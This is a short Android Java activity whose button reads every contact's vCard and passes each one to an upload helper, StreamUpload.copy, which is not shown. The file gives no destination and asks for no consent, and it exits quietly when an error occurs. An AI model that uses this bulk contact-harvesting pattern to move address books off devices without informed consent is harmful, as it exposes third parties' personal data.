package com.example.vcardsup;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract.Contacts;
import android.widget.Button;
import java.io.FileInputStream;
import java.io.IOException;

/** Exports every card. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button button = new Button(this);
        button.setOnClickListener(view -> new Thread(this::export).start());
        setContentView(button);
    }

    private void export() {
        Cursor cursor = getContentResolver().query(Contacts.CONTENT_URI, new String[] {"lookup"}, null, null, null);
        while (cursor.moveToNext()) {
            Uri card = Uri.withAppendedPath(Contacts.CONTENT_VCARD_URI, cursor.getString(0));
            try (FileInputStream source =
                    getContentResolver().openAssetFileDescriptor(card, "r").createInputStream()) {
                StreamUpload.copy(source);
            } catch (IOException offline) {
                finish();
            }
        }
        cursor.close();
    }
}
